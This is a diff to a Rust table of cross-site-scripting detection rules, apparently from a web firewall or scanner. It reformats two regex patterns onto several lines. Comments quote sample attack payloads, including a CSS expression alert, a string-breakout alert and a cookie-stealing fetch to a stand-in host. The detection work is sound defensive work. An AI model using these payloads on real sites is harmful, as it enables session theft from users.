@@ -72,7 +72,9 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // Style that is code: `style="width:expression(alert(1))"`.
     (
         "cross_site_scripting.style_code",
-        html![r"(?::\s*|/\*.*\*/)(?:e|\\0*65)(?:/\*.*\*/)?(?:x|\\0*78)(?:/\*.*\*/)?p(?:/\*.*\*/)?r(?:/\*.*\*/)?ession\s*\(|-moz-binding\s*:\s*url|[;{\x22'\s]behavior\s*:\s*url\(\s*['\x22]?(?:https?:)?//"],
+        html![
+            r"(?::\s*|/\*.*\*/)(?:e|\\0*65)(?:/\*.*\*/)?(?:x|\\0*78)(?:/\*.*\*/)?p(?:/\*.*\*/)?r(?:/\*.*\*/)?ession\s*\(|-moz-binding\s*:\s*url|[;{\x22'\s]behavior\s*:\s*url\(\s*['\x22]?(?:https?:)?//"
+        ],
     ),
     // Out of a script's string: `';alert(1)//`.
     (
@@ -82,7 +84,9 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // What scripts are stolen for: `fetch('//evil.example/?'+document.cookie)`.
     (
         "cross_site_scripting.cookie_theft",
-        html![r"(?:(?:alert|confirm|prompt|eval)\s*[(`]\s*(?:\w+\.)?|//\S*['\x22`]\s*\+\s*(?:\w+\()?(?:\w+\.)?|//\S*\$\{(?:\w+\()?)(?:document\.(?:cookie|domain)|localstorage\b)"],
+        html![
+            r"(?:(?:alert|confirm|prompt|eval)\s*[(`]\s*(?:\w+\.)?|//\S*['\x22`]\s*\+\s*(?:\w+\()?(?:\w+\.)?|//\S*\$\{(?:\w+\()?)(?:document\.(?:cookie|domain)|localstorage\b)"
+        ],
     ),
     // Calls that hide their name: `top['al'+'ert'](1)`, `eval(atob('…'))`.
     (
